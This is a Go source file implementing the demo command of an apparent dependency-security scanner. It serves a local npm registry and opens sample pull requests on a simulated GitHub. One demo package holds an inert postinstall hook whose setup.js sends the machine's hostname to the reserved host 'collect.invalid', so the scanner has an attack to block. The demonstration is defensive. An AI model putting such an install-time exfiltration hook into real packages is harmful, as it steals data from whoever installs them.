package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	_ "embed"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/app"
	"github.com/lockwarden/lockwarden/app/github/githubtest"
	"github.com/lockwarden/lockwarden/app/github/githubtest/browse"
)

// The demo's first pull request is of real packages.
var (
	//go:embed demo/base.package.json
	demoBaseManifest string
	//go:embed demo/base.package-lock.json
	demoBaseLock string
	//go:embed demo/head.package.json
	demoHeadManifest string
	//go:embed demo/head.package-lock.json
	demoHeadLock string
)

// demoScope is that of packages that only the demo's own registry has: written
// for it, inert by construction, to see a block happen without harm.
const demoScope = "@lockwarden-demo"

var demoPackages = map[string]map[string]string{
	demoScope + "/colors@1.0.1": {"index.js": "module.exports = text => '\\u001b[31m' + text + '\\u001b[0m'\n"},
	demoScope + "/colors@1.0.2": {
		"index.js": "module.exports = text => '\\u001b[31m' + text + '\\u001b[0m'\n",
		"setup.js": "const os = require('os')\nconst https = require('https')\n// The name .invalid is reserved: it leads nowhere (RFC " +
			"2606).\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n",
		"package.json": `{"name":"` + demoScope +
			`/colors","version":"1.0.2","license":"MIT","main":"index.js","scripts":{"postinstall":"node setup.js"}}`,
	},
}

func demoCommand() *cobra.Command {
	c := &cobra.Command{
		Use:   "demo",
		Short: "Try the GitHub App without GitHub",
		Long: `Run the GitHub App beside a small GitHub in the same process, with a sample
repository and two pull requests: one of real packages, and one with an update
that is made to be blocked (inert, from the demo's own registry). Open the
address it prints, read the check runs and comment.`,
		Args: cobra.NoArgs,
	}
	o := scannerFlags(c)
	port := c.Flags().Int("port", 4000, "port of the page, on this machine only")
	level := c.Flags().String("log-level", "warn", "debug, info, warn or error")
	c.RunE = func(c *cobra.Command, _ []string) error {
		var least slog.Level
		if err := least.UnmarshalText([]byte(*level)); err != nil {
			return fmt.Errorf("--log-level: %q is none of debug, info, warn, error", *level)
		}
		log := slog.New(slog.NewTextHandler(c.ErrOrStderr(), &slog.HandlerOptions{Level: least}))
		page, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", *port))
		if err != nil {
			return fmt.Errorf("--port: %w", err)
		}
		return demo(c, page, *o, log)
	}
	return c
}

func demo(c *cobra.Command, page net.Listener, o analyzer.Options, log *slog.Logger) error {
	ctx, cancel := context.WithCancel(c.Context())
	defer cancel()
	packages, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	registry := packages.Addr().String()
	go func() { _ = http.Serve(packages, demoRegistry(registry)) }()
	defer packages.Close()
	o.ProjectSettings = append(o.ProjectSettings, []byte(demoScope+":registry=http://"+registry+"/\n")...)
	o.AllowHosts = append(o.AllowHosts, registry)
	scanner, err := openScanner(c, o, nil)
	if err != nil {
		return err
	}
	defer scanner.Close()
	dir, err := os.MkdirTemp("", "lockwarden-demo")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)

	g := githubtest.New()
	defer g.Close()
	repo := demoRepository(g)
	address := "http://" + page.Addr().String()
	// The server's own address must be known before it listens: check runs lead
	// to its pages.
	free, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	own := free.Addr().String()
	_ = free.Close()
	ended := make(chan error, 1)
	ready, overviews := make(chan string, 1), make(chan string, 1)
	go func() {
		ended <- app.Serve(ctx, app.Settings{AppID: g.AppID, PrivateKey: g.PrivateKey, WebhookSecret: g.Secret, APIURL: g.URL(),
			Database: filepath.Join(dir, "demo.db"),
			Address:  own, PublicURL: "http://" + own, Log: log, Listening: func(a string) { ready <- a },
			Overview: func(a string) { overviews <- a }}, scanner)
	}()
	select {
	case a := <-ready:
		g.SendTo("http://" + a + "/webhook")
	case err := <-ended:
		return err
	}
	demoPulls(repo)
	overview := <-overviews
	users := []browse.User{{Login: "mia", Word: "maintainer"}, {Login: "ann", Word: "author, may write"}, {Login: "eve", Word: "stranger"}}
	server := &http.Server{Handler: &browse.Handler{Repository: repo, Users: users, Overview: overview}, ReadHeaderTimeout: 5 * time.Second}
	go func() { <-ctx.Done(); _ = server.Close() }()
	fmt.Fprintf(c.ErrOrStderr(), "The demo is at %s (Ctrl-C ends it)\n", address)
	_ = server.Serve(page)
	return <-ended
}

func demoRepository(g *githubtest.GitHub) *githubtest.Repository {
	repo := g.Repository("acme/shop")
	repo.Allow("mia", "maintain")
	repo.Allow("ann", "write")
	return repo
}

// demoPulls opens the two pull requests.
func demoPulls(repo *githubtest.Repository) {
	one := func(version string) map[string]string {
		name := demoScope + "/colors"
		data := demoTarball(name + "@" + version)
		manifest := fmt.Sprintf("{\n  \"name\": \"tools\",\n  \"dependencies\": {\n    %q: %q\n  }\n}\n", name, version)
		lock := fmt.Sprintf("{\n  \"name\": \"tools\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n  \"packages\": {\n    \"\": {\n  "+
			"    \"name\": \"tools\",\n      \"dependencies\": {\n        %q: %q\n      }\n    },\n    \"node_modules/%s\": {\n      "+
			"\"version\": %q,\n      \"integrity\": %q,\n      \"license\": \"MIT\"\n    }\n  }\n}\n",
			name, version, name, version, demoIntegrity(data))
		return map[string]string{"tools/package.json": manifest, "tools/package-lock.json": lock}
	}
	base := one("1.0.1")
	base["package.json"], base["package-lock.json"] = demoBaseManifest, demoBaseLock
	repo.Commit("main", base)
	repo.Commit("update-shop", map[string]string{"package.json": demoHeadManifest, "package-lock.json": demoHeadLock})
	repo.Open("ann", repo, "update-shop", "main").Retitle("Update dependencies")
	repo.Commit("update-colors", one("1.0.2"))
	repo.Open("ann", repo, "update-colors", "main").Retitle("Bump colors from 1.0.1 to 1.0.2")
}

func demoTarball(id string) []byte {
	files := map[string]string{}
	for file, text := range demoPackages[id] {
		files[file] = text
	}
	name, version := id[:strings.LastIndexByte(id, '@')], id[strings.LastIndexByte(id, '@')+1:]
	if files["package.json"] == "" {
		files["package.json"] = fmt.Sprintf(`{"name":%q,"version":%q,"license":"MIT","main":"index.js"}`, name, version)
	}
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, file := range []string{"package.json", "index.js", "setup.js"} {
		if text := files[file]; text != "" {
			_ = w.WriteHeader(&tar.Header{Name: "package/" + file, Mode: 0o644, Size: int64(len(text))})
			_, _ = w.Write([]byte(text))
		}
	}
	_ = w.Close()
	_ = z.Close()
	return b.Bytes()
}

func demoIntegrity(data []byte) string {
	sum := sha512.Sum512(data)
	return "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
}

// demoRegistry serves the demo's packages as a registry does.
func demoRegistry(host string) http.Handler {
	mux := http.NewServeMux()
	versions := map[string]any{}
	for id := range demoPackages {
		data := demoTarball(id)
		version := id[strings.LastIndexByte(id, '@')+1:]
		address := fmt.Sprintf("/%s/colors/-/colors-%s.tgz", demoScope, version)
		versions[version] = map[string]any{"name": demoScope + "/colors", "version": version, "dist": map[string]any{"tarball": "http://" +
			host + address, "integrity": demoIntegrity(data)}}
		mux.HandleFunc("GET "+address, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(data) })
	}
	mux.HandleFunc("GET /", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/"+demoScope+"/colors" { // its slash comes as %2F
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"name": demoScope + "/colors", "dist-tags": map[string]string{"latest": "1.0.2"},
			"versions": versions})
	})
	return mux
}
